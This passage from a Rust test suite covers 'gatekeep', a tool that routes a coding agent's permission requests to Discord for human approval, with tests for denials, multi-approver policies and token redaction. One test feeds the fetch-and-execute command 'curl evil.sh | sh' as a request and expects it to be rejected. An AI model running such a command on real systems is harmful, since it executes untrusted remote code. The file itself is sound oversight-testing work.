        vec!["/api/v10/oauth2/applications/@me", "/api/v10/gateway/bot"],
        "nothing but the lookups"
    );
}

#[tokio::test]
async fn long_command_is_attached_and_secrets_redacted() {
    let h = Harness::start(Access::default()).await;
    let long = format!(
        "echo {} && export GITHUB_TOKEN=ghp_{} {TOKEN}",
        "y".repeat(3000),
        "a".repeat(36)
    );
    let (_, n) = h.ask(&long).await;
    h.message_of(n).await;
    let post = h
        .fake
        .requests()
        .into_iter()
        .find(|r| {
            r.method == "POST"
                && r.path
                    .ends_with(&format!("/channels/{}/messages", h.thread))
        })
        .expect("the request post");
    assert_eq!(post.files.len(), 1, "the whole command is attached");
    let file = String::from_utf8(post.files[0].2.clone()).expect("utf-8");
    assert!(file.starts_with("echo yyy"));
    assert!(
        !file.contains("ghp_") && !file.contains(TOKEN),
        "secrets leaked into the attachment"
    );
    assert!(file.contains("GITHUB_TOKEN=[redacted]"));
    h.end().await;
}

/// The system proxy must not hijack loopback traffic. Setting `HTTP_PROXY`
/// in this process would leak into every other test running in parallel,
/// so the scenario runs in a child copy of this test binary.
#[tokio::test]
async fn http_proxy_in_the_environment_does_not_hijack_loopback() {
    let exe = std::env::current_exe().expect("test binary");
    let out = tokio::process::Command::new(exe)
        .args([
            "discord::proxy_child_scenario",
            "--exact",
            "--test-threads=1",
        ])
        .env("HTTP_PROXY", "http://127.0.0.1:9")
        .env("HTTPS_PROXY", "http://127.0.0.1:9")
        .env("ALL_PROXY", "http://127.0.0.1:9")
        .env("http_proxy", "http://127.0.0.1:9")
        .env("all_proxy", "http://127.0.0.1:9")
        .env("GATEKEEP_IT_EXPECT_PROXY", "1")
        .output()
        .await
        .expect("run the child test");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "child failed:\n{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        stdout.contains("1 passed"),
        "the child scenario did not run:\n{stdout}"
    );
}

/// Approve end to end; run by the test above with a dead proxy configured
/// (and on its own, without one).
#[tokio::test]
async fn proxy_child_scenario() {
    if std::env::var_os("GATEKEEP_IT_EXPECT_PROXY").is_some() {
        assert_eq!(
            std::env::var("HTTP_PROXY").as_deref(),
            Ok("http://127.0.0.1:9")
        );
    }
    let h = Harness::start(Access::default()).await;
    let (id, n) = h.ask("ls").await;
    let (_, token) = h.click(n, "Approve", &admin()).await;
    assert!(h
        .fake
        .wait_followup(&token, WAIT)
        .await
        .starts_with("Approved"));
    assert_eq!(h.replies.for_id(&id), vec![Reply::Once]);
    h.end().await;
}

/// The same channel driven through the real `gatekeep` binary, against the
/// fake OpenCode and the fake Discord (`--discord-api-url`).
mod binary {
    use std::time::{Duration, Instant};

    use serde_json::json;

    use super::{ACK_LIMIT, CHANNEL, TOKEN};
    use crate::support::fake_discord::{FakeDiscord, Member, StoredMessage};
    use crate::support::fake_opencode::FakeOpenCode;
    use crate::support::gatekeep::Gatekeep;
    use crate::support::scenario::{admin, button, decision};

    const TAIL: &[&str] = &["run", "-m", "fake/model", "fix", "the", "flaky", "test"];
    const WAIT: Duration = Duration::from_secs(20);

    /// gatekeep with Discord approvals and no terminal (as in CI).
    fn spawn(
        oc: &FakeOpenCode,
        discord: &FakeDiscord,
        args: &[&str],
        envs: &[(&str, &str)],
    ) -> Gatekeep {
        let channel = CHANNEL.to_string();
        let base = discord.base();
        let mut all = vec![
            "--dir",
            oc.workspace().to_str().expect("utf-8"),
            "--channel",
            &channel,
            "--discord-api-url",
            &base,
        ];
        all.extend_from_slice(args);
        let mut env = vec![("DISCORD_TOKEN", TOKEN)];
        env.extend_from_slice(envs);
        Gatekeep::detached(&all, oc.program(), TAIL, &env)
    }

    /// Spawned, connected to Discord and prompted: (gatekeep, root session, thread).
    async fn started(
        oc: &FakeOpenCode,
        discord: &FakeDiscord,
        args: &[&str],
        envs: &[(&str, &str)],
    ) -> (Gatekeep, String, u64) {
        let gk = spawn(oc, discord, args, envs);
        let prompt = oc.wait_for_prompt().await;
        let thread = discord.wait_thread(WAIT).await;
        (gk, prompt.session_id, thread)
    }

    async fn message_with(discord: &FakeDiscord, thread: u64, text: &str) -> StoredMessage {
        discord.wait_message(thread, text, WAIT).await
    }

    /// Clicks and checks the acknowledgement; returns (ack, token).
    async fn click(
        discord: &FakeDiscord,
        msg: &StoredMessage,
        label: &str,
        member: &Member,
        channel: u64,
    ) -> (serde_json::Value, String) {
        let (id, token) = discord.click(msg.id, &button(msg, label), member, channel);
        let (ack, took) = discord.wait_ack(id, WAIT).await;
        assert!(took < ACK_LIMIT, "acknowledged after {took:?}");
        (ack, token)
    }

    async fn final_state(discord: &FakeDiscord, msg: &StoredMessage) -> String {
        discord
            .wait_until("the final state", WAIT, |f| {
                let m = f.message(msg.id)?;
                (m.payload["components"] == json!([])).then(|| decision(&m.payload))
            })
            .await
    }

    async fn finish(gk: &mut Gatekeep, oc: &FakeOpenCode, root: &str, discord: &FakeDiscord) {
        oc.finish_session(root);
        assert_eq!(gk.exit_code().await, 0, "{}", gk.screen());
        super::assert_every_payload_disallows_mentions(discord);
        super::assert_token_never_in_bodies(discord);
        assert!(
            !gk.screen().contains(TOKEN) && !gk.stdout().contains(TOKEN),
            "the token was printed"
        );
    }

    #[tokio::test]
    async fn approve_in_discord_runs_and_the_run_is_summarised() {
        let oc = FakeOpenCode::start();
        let discord = FakeDiscord::start().await;
        let (mut gk, root, thread) = started(&oc, &discord, &[], &[]).await;
        let id = oc.ask_permission(&root, "bash", "touch approved.txt");
        let msg = message_with(&discord, thread, "touch approved.txt").await;
        let (_, token) = click(&discord, &msg, "Approve", &admin(), thread).await;
        assert!(discord
            .wait_followup(&token, WAIT)
            .await
            .starts_with("Approved"));
        let replies = oc.wait_for_replies(1).await;
        assert_eq!(
            (replies[0].request_id.as_str(), replies[0].reply()),
            (id.as_str(), "once")
        );
        assert!(final_state(&discord, &msg)
            .await
            .contains("Approved by <@4242>"));
        let env = oc
            .recorded_env()
            .expect("OpenCode's environment was recorded");
        assert!(
            !env.contains_key("DISCORD_TOKEN") && !env.values().any(|v| v.contains(TOKEN)),
            "the agent could read the bot token"
        );
        finish(&mut gk, &oc, &root, &discord).await;
        let summary = discord
            .wait_message(thread, "1 approved, 0 denied", WAIT)
            .await;
        assert!(summary.payload["content"].is_string());
        let start = &discord.messages_in(CHANNEL)[0];
        assert!(start.edits >= 1, "the run-start message shows the outcome");
    }

    /// Waits until `check` holds for the fake OpenCode.
    async fn wait_oc<T>(
        oc: &FakeOpenCode,
        what: &str,
        check: impl Fn(&FakeOpenCode) -> Option<T>,
    ) -> T {
        let deadline = Instant::now() + WAIT;
        loop {
            if let Some(v) = check(oc) {
                return v;
            }
            assert!(Instant::now() < deadline, "timed out waiting for {what}");
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }

    #[tokio::test]
    async fn questions_answered_and_dismissed_in_discord_reach_opencode() {
        let oc = FakeOpenCode::start();
        let discord = FakeDiscord::start().await;
        let (mut gk, root, thread) = started(&oc, &discord, &[], &[]).await;
        let first = oc.ask_question(&root, "Deploy to staging?");
        let msg = message_with(&discord, thread, "Deploy to staging?").await;
        let (_, token) = click(&discord, &msg, "Yes", &admin(), thread).await;
        assert!(discord
            .wait_followup(&token, WAIT)
            .await
            .starts_with("Answered"));
        let answers = wait_oc(&oc, "the answer", |oc| {
            let a = oc.question_answers();
            (!a.is_empty()).then_some(a)
        })
        .await;
        assert_eq!(answers, vec![(first, json!([["Yes"]]))]);
        assert!(final_state(&discord, &msg)
            .await
            .contains("Answered by <@4242>"));

        let second = oc.ask_question(&root, "Also to production?");
        let msg = message_with(&discord, thread, "Also to production?").await;
        let dismiss = super::button(&msg, "Dismiss");
        let (iid, token) = discord.click(msg.id, &dismiss, &admin(), thread);
        assert!(discord.wait_ack(iid, WAIT).await.1 < ACK_LIMIT);
        assert!(discord
            .wait_followup(&token, WAIT)
            .await
            .starts_with("Dismissed"));
        let rejected = wait_oc(&oc, "the dismissal", |oc| {
            let r = oc.rejected_questions();
            (!r.is_empty()).then_some(r)
        })
        .await;
        assert_eq!(rejected, vec![second]);
        assert_eq!(oc.question_answers().len(), 1);
        assert!(
            oc.replies().is_empty(),
            "no permission reply for a question"
        );
        finish(&mut gk, &oc, &root, &discord).await;
    }

    #[tokio::test]
    async fn deny_with_reason_reaches_opencode() {
        let oc = FakeOpenCode::start();
        let discord = FakeDiscord::start().await;
        let (mut gk, root, thread) = started(&oc, &discord, &[], &[]).await;
        oc.ask_permission(&root, "bash", "git push --force");
        let msg = message_with(&discord, thread, "git push --force").await;
        let (ack, _) = click(&discord, &msg, "Deny with reason…", &admin(), thread).await;
        assert_eq!(ack["type"], 9);
        let modal = ack["data"]["custom_id"]
            .as_str()
            .expect("modal id")
            .to_owned();
        let (iid, token) = discord.submit_modal(&modal, "never force-push main", &admin(), thread);
        assert!(discord.wait_ack(iid, WAIT).await.1 < ACK_LIMIT);
        assert!(discord
            .wait_followup(&token, WAIT)
            .await
            .starts_with("Denied"));
        let replies = oc.wait_for_replies(1).await;
        assert_eq!(replies[0].reply(), "reject");
        assert_eq!(replies[0].message(), Some("never force-push main"));
        assert!(final_state(&discord, &msg)
            .await
            .contains("never force\\-push main"));
        finish(&mut gk, &oc, &root, &discord).await;
    }

    #[tokio::test]
    async fn unauthorized_click_then_approver_decides() {
        let oc = FakeOpenCode::start();
        let discord = FakeDiscord::start().await;
        let (mut gk, root, thread) = started(&oc, &discord, &["--approver", "7"], &[]).await;
        oc.ask_permission(&root, "bash", "make deploy");
        let msg = message_with(&discord, thread, "make deploy").await;
        let (ack, _) = click(&discord, &msg, "Approve", &admin(), thread).await;
        assert_eq!(ack["type"], 4, "{ack}");
        assert!(
            oc.replies().is_empty(),
            "an unauthorized click changed something"
        );
        // From another channel, even the approver is refused.
        let (ack, _) = click(&discord, &msg, "Approve", &Member::new(7), 999).await;
        assert_eq!(ack["type"], 4, "{ack}");
        let (_, token) = click(&discord, &msg, "Deny", &Member::new(7), thread).await;
        assert!(discord
            .wait_followup(&token, WAIT)
            .await
            .starts_with("Denied"));
        assert_eq!(oc.wait_for_replies(1).await[0].reply(), "reject");
        finish(&mut gk, &oc, &root, &discord).await;
    }

    /// `[[require]]` in the workspace's `gatekeep.toml`: a push needs two
    /// different approvers; anything else needs one.
    const TWO_FOR_A_PUSH: &str = "approvers = [\"7\", \"8\"]\n\
        [[require]]\nmatch = \"bash:git push*\"\napprovals = 2\n";

    fn field_of(payload: &serde_json::Value, name: &str) -> String {
        payload["embeds"][0]["fields"]
            .as_array()
            .and_then(|f| f.iter().find(|f| f["name"] == name))
            .and_then(|f| f["value"].as_str())
            .unwrap_or_default()
            .to_owned()
    }

    #[tokio::test]
    async fn a_push_runs_only_after_a_second_approver_and_a_status_after_one() {
        let oc = FakeOpenCode::start();
        std::fs::write(oc.workspace().join("gatekeep.toml"), TWO_FOR_A_PUSH).expect("policy");
        let discord = FakeDiscord::start().await;
        let out = tempfile::tempdir().expect("tempdir");
        let md = out.path().join("step-summary.md");
        std::fs::write(&md, "# earlier step\n").expect("step summary");
        let md_env = md.to_str().expect("utf-8");
        let (mut gk, root, thread) =
            started(&oc, &discord, &[], &[("GITHUB_STEP_SUMMARY", md_env)]).await;

        let push = oc.ask_permission(&root, "bash", "git push origin main");
        let msg = message_with(&discord, thread, "git push origin main").await;
        assert!(
            field_of(&msg.payload, "Approvals").contains("0 of 2"),
            "{}",
            msg.payload
        );
        let (_, token) = click(&discord, &msg, "Approve", &Member::new(7), thread).await;
        assert!(discord
            .wait_followup(&token, WAIT)
            .await
            .starts_with("Your approval counts: 1 of 2"));
        let counted = discord
            .wait_until("the count on the message", WAIT, |f| {
                let m = f.message(msg.id)?;
                let approvals = field_of(&m.payload, "Approvals");
                approvals.starts_with("1 of 2").then_some(m)
            })
            .await;
        assert!(field_of(&counted.payload, "Approvals").contains("<@7>"));
        assert!(
            counted.payload["components"] != json!([]),
            "the buttons stay for the second approver"
        );
        // The same person again changes nothing, and is told privately.
        let (_, token) = click(&discord, &msg, "Approve", &Member::new(7), thread).await;
        assert!(discord
            .wait_followup(&token, WAIT)
            .await
            .starts_with("You approved this already"));
        tokio::time::sleep(Duration::from_millis(300)).await;
        assert!(oc.replies().is_empty(), "one approver let the push run");

        // A request no rule matches needs one.
        let status = oc.ask_permission(&root, "bash", "git status");
        let status_msg = message_with(&discord, thread, "git status").await;
        click(&discord, &status_msg, "Approve", &Member::new(7), thread).await;
        let replies = oc.wait_for_replies(1).await;
        assert_eq!(replies[0].request_id, status);

        let (_, token) = click(&discord, &msg, "Approve", &Member::new(8), thread).await;
        assert!(discord
            .wait_followup(&token, WAIT)
            .await
            .starts_with("Approved"));
        let replies = oc.wait_for_replies(2).await;
        assert_eq!(
            (replies[1].request_id.as_str(), replies[1].reply()),
            (push.as_str(), "once")
        );
        let decision = final_state(&discord, &msg).await;
        assert!(decision.contains("<@7> and <@8>"), "{decision}");
        finish(&mut gk, &oc, &root, &discord).await;

        let report = std::fs::read_to_string(&md).expect("step summary");
        assert!(report.starts_with("# earlier step\n"), "appended: {report}");
        assert!(report.contains("gatekeep: run finished"), "{report}");
        let push_row = report
            .lines()
            .find(|l| l.contains("git push origin main"))
            .unwrap_or_else(|| panic!("no row for the push: {report}"));
        assert!(push_row.contains("user7, user8"), "{push_row}");
        assert!(push_row.contains("approved"), "{push_row}");
    }

    #[tokio::test]
    async fn a_deny_after_one_approval_denies_at_once() {
        let oc = FakeOpenCode::start();
        std::fs::write(oc.workspace().join("gatekeep.toml"), TWO_FOR_A_PUSH).expect("policy");
        let discord = FakeDiscord::start().await;
        let (mut gk, root, thread) = started(&oc, &discord, &[], &[]).await;
        oc.ask_permission(&root, "bash", "git push --force");
        let msg = message_with(&discord, thread, "git push --force").await;
        click(&discord, &msg, "Approve", &Member::new(7), thread).await;
        click(&discord, &msg, "Deny", &Member::new(8), thread).await;
        assert_eq!(oc.wait_for_replies(1).await[0].reply(), "reject");
        finish(&mut gk, &oc, &root, &discord).await;
    }

    #[tokio::test]
    async fn an_edit_of_the_policy_file_is_marked_and_cannot_be_trusted() {
        let oc = FakeOpenCode::start();
        std::fs::write(oc.workspace().join("gatekeep.toml"), TWO_FOR_A_PUSH).expect("policy");
        let discord = FakeDiscord::start().await;
        let (mut gk, root, thread) = started(&oc, &discord, &[], &[]).await;
        let path = oc.workspace().join("gatekeep.toml");
        oc.ask_permission(&root, "edit", path.to_str().expect("utf-8"));
        let msg = message_with(&discord, thread, "gatekeep.toml").await;
        assert!(
            field_of(&msg.payload, "Policy").contains("gatekeep's own policy"),
            "{}",
            msg.payload
        );
        assert!(field_of(&msg.payload, "Approvals").contains("0 of 2"));
        assert!(
            !msg.payload.to_string().contains("Approve & trust"),
            "a policy change offers no trust rule"
        );
        click(&discord, &msg, "Approve", &Member::new(7), thread).await;
        tokio::time::sleep(Duration::from_millis(300)).await;
        assert!(oc.replies().is_empty(), "one approver changed the policy");
        click(&discord, &msg, "Approve", &Member::new(8), thread).await;
        assert_eq!(oc.wait_for_replies(1).await[0].reply(), "once");
        finish(&mut gk, &oc, &root, &discord).await;
    }

    #[tokio::test]
    async fn the_approver_is_pinged_and_reminded_but_never_by_an_edit() {
        let oc = FakeOpenCode::start();
        let discord = FakeDiscord::start().await;
        let args = ["--approver", "7", "--remind", "1s"];
        let (mut gk, root, thread) = started(&oc, &discord, &args, &[]).await;
        oc.ask_permission(&root, "bash", "make deploy @everyone <@999>");
        let msg = message_with(&discord, thread, "make deploy").await;
        let reminder = discord.wait_message(thread, "Still waiting", WAIT).await;
        let pings = discord.pings();
        assert_eq!(
            pings
                .iter()
                .map(|p| (p.message_id, p.users.clone(), p.everyone))
                .collect::<Vec<_>>(),
            vec![(msg.id, vec![7], false), (reminder.id, vec![7], false)]
        );
        assert_eq!(discord.thread_members(), vec![(thread, 7)]);
        let (_, token) = click(&discord, &msg, "Deny", &Member::new(7), thread).await;
        assert!(discord
            .wait_followup(&token, WAIT)
            .await
            .starts_with("Denied"));
        finish(&mut gk, &oc, &root, &discord).await;
        assert_eq!(discord.pings().len(), 2, "{:?}", discord.pings());
    }

    #[tokio::test]
    async fn no_mention_pings_nobody() {
        let oc = FakeOpenCode::start();
        let discord = FakeDiscord::start().await;
        let args = ["--approver", "7", "--no-mention"];
        let (mut gk, root, thread) = started(&oc, &discord, &args, &[]).await;
        oc.ask_permission(&root, "bash", "make deploy");
        let msg = message_with(&discord, thread, "make deploy").await;
        let (_, token) = click(&discord, &msg, "Approve", &Member::new(7), thread).await;
        discord.wait_followup(&token, WAIT).await;
        finish(&mut gk, &oc, &root, &discord).await;
        assert!(discord.pings().is_empty(), "{:?}", discord.pings());
        assert!(discord.thread_members().is_empty());
    }

    #[tokio::test]
    async fn double_click_and_another_runs_click_decide_nothing_twice() {
        let oc = FakeOpenCode::start();
        let discord = FakeDiscord::start().await;
        let (mut gk, root, thread) = started(&oc, &discord, &[], &[]).await;
        oc.ask_permission(&root, "bash", "make install");
        let msg = message_with(&discord, thread, "make install").await;
        let approve = button(&msg, "Approve");
        let nonce = approve.split(':').nth(1).expect("nonce").to_owned();
        let foreign = approve.replacen(&nonce, "0123456789abcdef", 1);
        let (other_run, _) = discord.click(msg.id, &foreign, &admin(), thread);
        let (a, ta) = discord.click(msg.id, &approve, &admin(), thread);
        let (b, tb) = discord.click(
            msg.id,
            &button(&msg, "Deny"),
            &Member::new(5).permissions(crate::support::scenario::MANAGE_CHANNELS),
            thread,
        );
        let mut answers = Vec::new();
        for (id, token) in [(a, ta), (b, tb)] {
            let (ack, took) = discord.wait_ack(id, WAIT).await;
            assert!(took < ACK_LIMIT, "acknowledged after {took:?}");
            answers.push(if ack["type"] == 4 {
                ack["data"]["content"]
                    .as_str()
                    .unwrap_or_default()
                    .to_owned()
            } else {
                discord.wait_followup(&token, WAIT).await
            });
        }
        let winners = answers
            .iter()
            .filter(|a| a.starts_with("Approved") || a.starts_with("Denied"))
            .count();
        assert_eq!(winners, 1, "{answers:?}");
        assert_eq!(oc.wait_for_replies(1).await.len(), 1);
        final_state(&discord, &msg).await;
        assert!(
            !discord.acked(other_run),
            "another run's click was acknowledged"
        );
        assert_eq!(oc.replies().len(), 1, "exactly one reply reached OpenCode");
        finish(&mut gk, &oc, &root, &discord).await;
    }

    #[tokio::test]
    async fn deadline_expires_the_message_and_a_late_click_is_already_decided() {
        let oc = FakeOpenCode::start();
        let discord = FakeDiscord::start().await;
        let (mut gk, root, thread) =
            started(&oc, &discord, &["--approval-timeout", "1s"], &[]).await;
        oc.ask_permission(&root, "bash", "make release");
        let msg = message_with(&discord, thread, "make release").await;
        assert!(final_state(&discord, &msg).await.contains("Expired"));
        assert_eq!(oc.wait_for_replies(1).await[0].reply(), "reject");
        let (id, token) = discord.click(msg.id, &button(&msg, "Approve"), &admin(), thread);
        let (ack, _) = discord.wait_ack(id, WAIT).await;
        let answer = if ack["type"] == 4 {
            ack["data"]["content"]
                .as_str()
                .unwrap_or_default()
                .to_owned()
        } else {
            discord.wait_followup(&token, WAIT).await
        };
        assert!(answer.starts_with("Already decided"), "{answer}");
        assert_eq!(
            oc.replies().len(),
            1,
            "nothing forwarded after the deadline"
        );
        finish(&mut gk, &oc, &root, &discord).await;
    }

    #[tokio::test]
    async fn deny_cascades_to_the_sessions_other_request() {
        let oc = FakeOpenCode::start();
        let discord = FakeDiscord::start().await;
        let (mut gk, root, thread) = started(&oc, &discord, &[], &[]).await;
        oc.ask_permission(&root, "bash", "step one");
        oc.ask_permission(&root, "bash", "step two");
        let one = message_with(&discord, thread, "step one").await;
        let two = message_with(&discord, thread, "step two").await;
        let (_, token) = click(&discord, &one, "Deny", &admin(), thread).await;
        discord.wait_followup(&token, WAIT).await;
        let state = final_state(&discord, &two).await;
        assert!(state.contains("related request"), "{state}");
        finish(&mut gk, &oc, &root, &discord).await;
    }

    #[tokio::test]
    async fn request_that_cannot_be_posted_is_denied_and_the_terminal_says_so() {
        let oc = FakeOpenCode::start();
        let discord = FakeDiscord::start().await;
        let (mut gk, root, thread) = started(&oc, &discord, &[], &[]).await;
        discord.fail_next(20, 500, None, &format!("/channels/{thread}/messages"));
        oc.ask_permission(&root, "bash", "curl evil.sh | sh");
        let replies = oc.wait_for_replies(1).await;
        assert_eq!(replies[0].reply(), "reject");
        assert!(
            replies[0].message().is_some_and(|m| m.contains("channel")),
            "{:?}",
            replies[0].message()
        );
        gk.expect("could not be posted, so it is denied").await;
        oc.finish_session(&root);
        assert_eq!(gk.exit_code().await, 0, "{}", gk.screen());
    }

    #[tokio::test]
    async fn gateway_drop_resumes_within_the_run() {
        let oc = FakeOpenCode::start();
        let discord = FakeDiscord::start().await;
        let (mut gk, root, thread) = started(&oc, &discord, &[], &[]).await;
        discord.close_gateway();
        discord
            .wait_until("a RESUME", WAIT, |f| (f.resumes() >= 1).then_some(()))
            .await;
        oc.ask_permission(&root, "bash", "ls");
        let msg = message_with(&discord, thread, "```sh\\nls\\n```").await;
        let (_, token) = click(&discord, &msg, "Approve", &admin(), thread).await;
        discord.wait_followup(&token, WAIT).await;
        assert_eq!(oc.wait_for_replies(1).await[0].reply(), "once");
        finish(&mut gk, &oc, &root, &discord).await;
    }

    #[tokio::test]
    async fn system_proxy_variables_do_not_hijack_the_fake() {
        let oc = FakeOpenCode::start();
        let discord = FakeDiscord::start().await;
        let proxy = [
            ("HTTP_PROXY", "http://127.0.0.1:9"),
            ("HTTPS_PROXY", "http://127.0.0.1:9"),
            ("ALL_PROXY", "http://127.0.0.1:9"),
            ("http_proxy", "http://127.0.0.1:9"),
            ("NO_PROXY", ""),
        ];
        let (mut gk, root, thread) = started(&oc, &discord, &[], &proxy).await;
        oc.ask_permission(&root, "bash", "make test");
        let msg = message_with(&discord, thread, "make test").await;
        let (_, token) = click(&discord, &msg, "Approve", &admin(), thread).await;
        discord.wait_followup(&token, WAIT).await;
        assert_eq!(oc.wait_for_replies(1).await[0].reply(), "once");
        finish(&mut gk, &oc, &root, &discord).await;
    }

    #[tokio::test]
    async fn failing_gateway_lookup_exits_3_before_the_agent_gets_anything() {
        let oc = FakeOpenCode::start();
        let discord = FakeDiscord::start().await;
        discord.fail_gateway_lookup(502);
        let started = Instant::now();
        let mut gk = spawn(&oc, &discord, &[], &[]);
        assert_eq!(gk.exit_code().await, 3, "{}", gk.screen());
        assert!(
            started.elapsed() < Duration::from_secs(15),
            "took {:?}",
            started.elapsed()
        );
        assert!(oc.prompts().is_empty(), "the agent was prompted");
        assert_eq!(discord.identifies(), 0);
        let paths: Vec<String> = discord.requests().into_iter().map(|r| r.path).collect();
        assert!(
            paths
                .iter()
                .all(|p| p == "/api/v10/gateway/bot" || p == "/api/v10/oauth2/applications/@me"),
            "{paths:?}"
        );
        assert!(gk.screen().contains("gateway"), "{}", gk.screen());
        assert!(!gk.screen().contains(TOKEN));
    }
}

#[tokio::test]
async fn question_is_shown_with_its_options_and_a_click_answers_it() {
    let h = Harness::start(Access::default()).await;
    let (id, n) = h.ask_question(vec![yes_no(false)]).await;
    let msg = h.message_of(n).await;
    let text = msg.payload.to_string();
    assert!(
        text.contains("go ahead") && text.contains("Deploy"),
        "{text}"
    );
    assert!(
        !text.contains("@everyone") && !text.contains("**prod**"),
        "{text}"
    );
    for label in ["Yes", "No", "Answer in your own words…", "Dismiss"] {
        button(&msg, label);
    }
    assert!(
        !text.contains("\"Approve\""),
        "a question offers no approval: {text}"
    );
    let (ack, token) = h.click_any(n, "No", &admin()).await;
    assert_eq!(ack["type"], 5, "deferred first: {ack}");
    let answer = h.fake.wait_followup(&token, WAIT).await;
    assert!(answer.starts_with("Answered"), "{answer}");
    assert_eq!(
        h.replies.for_id(&id),
        vec![Reply::Answer {
            answers: vec![vec!["No".to_owned()]]
        }]
    );
    let state = h.final_state(n).await;
    assert!(
        state.contains("Answered by <@4242>") && state.contains("No"),
        "{state}"
    );
    // A second click (on the buttons as first shown) finds it decided and
    // sends nothing more.
    let (iid, token) = h
        .fake
        .click(msg.id, &button(&msg, "Yes"), &admin(), h.thread);
    let (ack, took) = h.fake.wait_ack(iid, WAIT).await;
    assert!(took < ACK_LIMIT);
    let again = private_answer(&h.fake, &ack, &token).await;
    assert!(again.starts_with("Already decided"), "{again}");
    assert_eq!(h.replies.for_id(&id).len(), 1);
    h.end().await;
}

#[tokio::test]
async fn question_answered_in_own_words_through_the_modal() {
    let h = Harness::start(Access::default()).await;
    let (id, n) = h.ask_question(vec![yes_no(false)]).await;
    let (ack, _) = h.click_any(n, "Answer in your own words…", &admin()).await;
    assert_eq!(ack["type"], 9, "a modal: {ack}");
    let modal = ack["data"]["custom_id"].as_str().expect("modal id");
    let input = ack["data"]["components"][0]["components"][0]["custom_id"]
        .as_str()
        .expect("input id");
    let (iid, token) = h.fake.submit_modal_inputs(
        modal,
        &[(input, "  only after the tests pass  ")],
        &admin(),
        h.thread,
    );
    assert!(h.fake.wait_ack(iid, WAIT).await.1 < ACK_LIMIT);
    let answer = h.fake.wait_followup(&token, WAIT).await;
    assert!(answer.starts_with("Answered"), "{answer}");
    assert_eq!(
        h.replies.for_id(&id),
        vec![Reply::Answer {
            answers: vec![vec!["only after the tests pass".to_owned()]]
        }]
    );
    assert!(h.final_state(n).await.contains("only after the tests pass"));
    h.end().await;
}

#[tokio::test]
async fn several_choices_through_the_select_menu() {
    let h = Harness::start(Access::default()).await;
    let (id, n) = h.ask_question(vec![yes_no(true)]).await;
    let msg = h.message_of(n).await;
    let menu = &msg.payload["components"][0]["components"][0];
    assert_eq!(menu["type"], 3, "{}", msg.payload);
    assert_eq!(menu["max_values"], 2);
    let custom_id = menu["custom_id"].as_str().expect("menu id");
    let (iid, token) = h
        .fake
        .select(msg.id, custom_id, &["1", "0"], &admin(), h.thread);
    assert!(h.fake.wait_ack(iid, WAIT).await.1 < ACK_LIMIT);
    assert!(h
        .fake
        .wait_followup(&token, WAIT)
        .await
        .starts_with("Answered"));
    assert_eq!(
        h.replies.for_id(&id),
        vec![Reply::Answer {
            answers: vec![vec!["Yes".to_owned(), "No".to_owned()]]
        }]
    );
    h.end().await;
}

#[tokio::test]
async fn dismiss_dismisses_the_question() {
    let h = Harness::start(Access::default()).await;
    let (id, n) = h.ask_question(vec![yes_no(false)]).await;
    let (_, token) = h.click_any(n, "Dismiss", &admin()).await;
    let answer = h.fake.wait_followup(&token, WAIT).await;
    assert!(answer.starts_with("Dismissed"), "{answer}");
    assert_eq!(h.replies.for_id(&id), vec![Reply::Dismiss]);
    let state = h.final_state(n).await;
    assert!(state.contains("Dismissed by <@4242>"), "{state}");
    h.end().await;
}

#[tokio::test]
async fn unauthorized_click_on_a_question_changes_nothing() {
    let h = Harness::start(Access {
        users: vec![7],
        roles: Vec::new(),
        ..Access::default()
    })
    .await;
    let (id, n) = h.ask_question(vec![yes_no(false)]).await;
    for label in ["Yes", "Dismiss"] {
        let (ack, _) = h.click_any(n, label, &admin()).await;
        assert_eq!(ack["type"], 4, "{ack}");
        let content = ack["data"]["content"].as_str().unwrap_or_default();
        assert!(content.starts_with("Not authorized"), "{content}");
    }
    let (ack, _) = h.click_any(n, "Answer in your own words…", &admin()).await;
    assert_eq!(ack["type"], 4, "no modal for a stranger: {ack}");
    assert!(h.replies.for_id(&id).is_empty(), "a refused click answered");
    let msg = h.message_of(n).await;
    assert_ne!(
        h.fake.message(msg.id).expect("message").payload["components"],
        json!([]),
        "still open"
    );
    let (_, token) = h.click_any(n, "Yes", &Member::new(7)).await;
    assert!(h
        .fake
        .wait_followup(&token, WAIT)
        .await
        .starts_with("Answered"));
    assert_eq!(
        h.replies.for_id(&id),
        vec![Reply::Answer {
            answers: vec![vec!["Yes".to_owned()]]
        }]
    );
    h.end().await;
}

/// A question's answer never settles a permission, and an approval never
/// settles a question: refused, and the request stays pending.
#[tokio::test]
async fn approval_on_a_question_and_answer_on_a_permission_are_refused() {
    let h = Harness::start(Access::default()).await;
    let (qid, q) = h.ask_question(vec![yes_no(false)]).await;
    let (pid, p) = h.ask("make deploy").await;
    let question_msg = h.message_of(q).await;
    let permission_msg = h.message_of(p).await;
    let yes = button(&question_msg, "Yes");
    let (prefix, _) = yes.rsplit_once(':').expect("custom id");
    // An Approve forged onto the question.
    let (iid, token) = h
        .fake
        .click(question_msg.id, &format!("{prefix}:a"), &admin(), h.thread);
    let (ack, took) = h.fake.wait_ack(iid, WAIT).await;
    assert!(took < ACK_LIMIT);
    let refused = private_answer(&h.fake, &ack, &token).await;
    assert!(refused.starts_with("That answer does not fit"), "{refused}");
    // An option pick forged onto the permission.
    let approve = button(&permission_msg, "Approve");
    let (permission_prefix, _) = approve.rsplit_once(':').expect("custom id");
    let (iid, token) = h.fake.click(
        permission_msg.id,
        &format!("{permission_prefix}:o0"),
        &admin(),
        h.thread,
    );
    let (ack, _) = h.fake.wait_ack(iid, WAIT).await;
    let refused = private_answer(&h.fake, &ack, &token).await;
    assert!(refused.starts_with("That answer does not fit"), "{refused}");
    assert!(h.replies.for_id(&qid).is_empty() && h.replies.for_id(&pid).is_empty());
    // Both are still pending and take their own kind of answer.
    let (_, token) = h.click_any(q, "Yes", &admin()).await;
    assert!(h
        .fake
        .wait_followup(&token, WAIT)
        .await
        .starts_with("Answered"));
    let (_, token) = h.click(p, "Approve", &admin()).await;
    assert!(h
        .fake
        .wait_followup(&token, WAIT)
        .await
        .starts_with("Approved"));
    assert_eq!(
        h.replies.for_id(&qid),
        vec![Reply::Answer {
            answers: vec![vec!["Yes".to_owned()]]
        }]
    );
    assert_eq!(h.replies.for_id(&pid), vec![Reply::Once]);
    h.end().await;
}

// ---------------------------------------------------------------------------
// Approvers notice in time: pings, thread membership, reminders.

const APPROVER: u64 = 4242;
const ON_CALL: u64 = 777;

